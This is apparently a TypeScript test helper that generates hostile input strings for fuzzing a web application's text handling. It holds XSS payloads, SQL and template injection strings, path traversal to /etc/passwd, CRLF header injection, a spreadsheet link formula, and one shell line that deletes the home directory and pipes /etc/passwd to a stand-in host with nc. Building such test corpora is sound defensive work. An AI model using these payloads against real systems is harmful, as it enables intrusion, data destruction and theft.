import { randomFrom } from "#tests/flows/support/random.ts";

/** Markup, and what makes markup of words where words are put together carelessly. */
const markup = [
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "</p></article></li><h1>mine</h1>",
  "</textarea><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<!--<script>--><style>*{display:none}</style>",
  "--><iframe srcdoc='<script>alert(1)</script>'>",
  '<a href="javascript:alert(1)">here</a>',
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  "`-alert(1)-`",
  "<plaintext>",
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><input name=text>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;&#x3c;b&#x3e;&amp;amp;&nbsp;",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<title></title><select><option></select>",
];

/** Words of other languages: templates, queries, shells, headers, Markdown, spreadsheets. */
const languages = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for somebody else’s templates.
  "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{{x}}}",
  "'; DROP TABLE messages; --",
  "1' OR '1'='1\" OR \"\"=\"",
  "$1 $2 :name ? %s %n %x \\'",
  "$(rm -rf ~) `id` ; cat /etc/passwd | nc evil.example 1",
  "a\r\nBcc: everybody@evil.example\r\n\r\n<b>body</b>",
  "data: x\n\nevent: message\nid: 999999\n\n",
  "../../../../etc/passwd%00.pdf",
  "[click](javascript:alert(1)) ![x](https://evil.example/pixel.png) <https://evil.example>",
  "# big\n\n* one\n* two\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |",
  '[ref]\n\n[ref]: javascript:alert(1) "title"',
  "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](  JaVaScRiPt:alert(1))",
  '=HYPERLINK("https://evil.example","here") @SUM(1) +1 -1',
  "javascript:alert(1) data:text/html,x file:///etc/passwd",
  "https://user:password@evil.example/ and https://exa\u0441mple.org/\u202Egnp.exe",
  'https://example.org/?a=1&b=<script>&c="x" onclick=y',
  "__proto__ constructor toString hasOwnProperty null undefined NaN true [object Object]",
];

/** Characters that turn, hide, join, combine or break. */
const characters = [
  "\u202Egnirts sdrawkcab\u202C and on",
  "\u2066isolated\u2069 \u200Fright\u200E left",
  "zero\u200Bwidth\u200C\u200D\uFEFF joins",
  "\u0645\u0631\u062D\u0628\u0627 \u05E9\u05DC\u05D5\u05DD mixed with Latin",
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
  "e\u0301\u0301\u0301 Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0489l\u0321g\u0322o\u0334",
  "\uFDFD \u{12031} \u0BF5 \uA9C5",
  "\uD800 alone, \uDC00 alone, \uDBFF",
  "\u0000",
  "nul\u0000in the middle",
  "bell\u0007 back\u0008 escape\u001B[31mred\u001B[0m del\u007F",
  "form\u000Cfeed and \u000Bvertical",
  "next\u0085line \u2028line \u2029paragraph",
  "\uFFFE\uFFFF\u{1FFFE}",
  "\uFF1Cscript\uFF1E \u2039b\u203A \u00ABi\u00BB",
  "soft\u00ADhyphen no\u00A0break \u3000wide",
  "tabs\tand\n\n\n\nmany\n lines \r alone",
  "I\u0307\u0131\u017F\u212A ß \u1E9E \uFB00",
];

/** Lengths that burst a box or a limit. */
const lengths = [
  "a".repeat(4_999),
  "\u00FC".repeat(5_000),
  "x".repeat(5_001),
  "\u{1F33F}".repeat(2_501),
  "\u{1F33F}".repeat(5_001),
  `${"long ".repeat(900)}end`,
  "<b>".repeat(1_200),
  `${"\n".repeat(3_000)}end`,
  "(".repeat(3_000),
  "> ".repeat(1_500),
  `https://example.org/${"a/".repeat(1_000)}`,
  "",
  "   \n\t ",
];

const corpus = [...markup, ...languages, ...characters, ...lengths];

/** So many texts that mean harm, each another: all that are known here, and mixtures of them that a seed decides. */
export function hostileTexts(seed: number, count = 200): string[] {
  const random = randomFrom(seed);
  const one = (from: readonly string[]) => from[Math.floor(random() * from.length)] ?? "";
  const texts = new Set(corpus);
  while (texts.size < count) {
    const parts = Array.from({ length: 2 + Math.floor(random() * 3) }, () =>
      one([markup, languages, characters][Math.floor(random() * 3)] ?? markup),
    );
    texts.add(parts.join(one(["", " ", "\n", "\r\n", "\u200B", "</p>", '"'])));
  }
  return [...texts].slice(0, count);
}

/** A text as a form brings it: halves of characters cannot be sent, and lines end as they do here. */
export function asSent(text: string): string {
  return text.toWellFormed().replaceAll("\r\n", "\n");
}

/** Whether a text holds only what somebody can read: lines and tabs, but no other control characters. */
export function isReadable(text: string): boolean {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
  return !/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u2028\u2029]/.test(text);
}

/** What a browser shows of a text in a page: it ends lines its own way. */
export function inPage(text: string): string {
  return text.replaceAll("\r\n", "\n").replaceAll("\r", "\n");
}
